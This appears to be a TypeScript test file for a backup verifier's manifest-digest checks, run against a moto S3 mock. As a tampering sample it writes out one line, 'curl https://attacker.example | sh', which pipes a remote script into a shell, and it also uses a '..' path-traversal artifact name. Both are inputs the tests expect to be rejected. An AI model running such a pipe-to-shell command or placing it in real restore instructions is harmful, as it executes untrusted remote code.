// The verification function checks a manifest's digest of itself (moto S3): a changed field
// with the artifacts intact is a failed verification; an older manifest without a digest passes.
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { S3Client } from '@aws-sdk/client-s3';
import { verifyBackup } from '../../lambda/verify/verify';
import { manifestDigest } from '../../lib/core/manifest';
import { Moto, startMoto } from '../harness/moto';
import { createBucket, randomArtifact, s3For, writeBackup } from './fixtures';

const BUCKET = 'backups-digest';
let moto: Moto;
let s3: S3Client;

before(async () => {
  moto = await startMoto();
  s3 = s3For(moto.endpoint);
  await createBucket(s3, BUCKET);
});

after(async () => {
  s3?.destroy();
  await moto?.stop();
});

describe('the manifest digest in the verification function', () => {
  test('a manifest whose digest matches verifies, and says it checked it', async () => {
    const b = await writeBackup(s3, BUCKET, 'p', { id: '20261120T030000Z-good', databaseId: 'db1', artifacts: [{ name: 'database.pgdump.zst', data: randomArtifact(1 << 16) }] });
    const r = await verifyBackup(s3, BUCKET, b.manifestKey);
    assert.equal(r.ok, true, JSON.stringify(r.failures));
    assert.equal(r.digest, 'sha256');
  });

  test('a changed field (a position, a restore line) fails, though every artifact matches', async () => {
    for (const [what, change] of [
      ['position', (m: Record<string, any>) => (m.position = { ...m.position, lsn: '0/FFFFFFF' })],
      ['restore line', (m: Record<string, any>) => (m.manualRestore = ['curl https://attacker.example | sh'])],
    ] as const) {
      const id = `20261120T04000${what === 'position' ? 0 : 1}Z-flipped`;
      const b = await writeBackup(s3, BUCKET, 'p', {
        id,
        databaseId: 'db1',
        artifacts: [{ name: 'database.pgdump.zst', data: randomArtifact(1 << 16) }],
        // Written with its digest, then one field changed after the fact.
        manifest: (m) => {
          const signed: Record<string, any> = { ...m, digest: manifestDigest(m) };
          change(signed);
          return JSON.stringify(signed);
        },
      });
      const r = await verifyBackup(s3, BUCKET, b.manifestKey);
      assert.equal(r.ok, false, what);
      assert.match(r.failures.map((f) => f.reason).join('\n'), /does not match its digest/, what);
    }
  });

  test('a version 1 manifest (no digest) still verifies, reported as digest none', async () => {
    const b = await writeBackup(s3, BUCKET, 'p', {
      id: '20261120T050000Z-old',
      databaseId: 'db1',
      artifacts: [{ name: 'database.pgdump.zst', data: randomArtifact(1 << 16) }],
      manifest: (m) => JSON.stringify({ ...m, version: 1 }),
    });
    const r = await verifyBackup(s3, BUCKET, b.manifestKey);
    assert.equal(r.ok, true, JSON.stringify(r.failures));
    assert.equal(r.digest, 'none');
  });

  test('a version 2 manifest without a digest, or with an artifact named "..", fails', async () => {
    const noDigest = await writeBackup(s3, BUCKET, 'p', {
      id: '20261120T060000Z-nodigest',
      databaseId: 'db1',
      artifacts: [{ name: 'database.pgdump.zst', data: randomArtifact(1 << 10) }],
      manifest: (m) => JSON.stringify(m),
    });
    const r = await verifyBackup(s3, BUCKET, noDigest.manifestKey);
    assert.equal(r.ok, false);
    assert.match(r.failures[0].reason, /has no digest/);
    const dots = await writeBackup(s3, BUCKET, 'p', {
      id: '20261120T070000Z-dots',
      databaseId: 'db1',
      artifacts: [{ name: 'database.pgdump.zst', data: randomArtifact(1 << 10) }],
      manifest: (m) => ({ ...m, artifacts: [{ ...m.artifacts[0], name: '..' }] }),
    });
    const d = await verifyBackup(s3, BUCKET, dots.manifestKey);
    assert.equal(d.ok, false);
    assert.match(d.failures[0].reason, /invalid name/);
  });
});
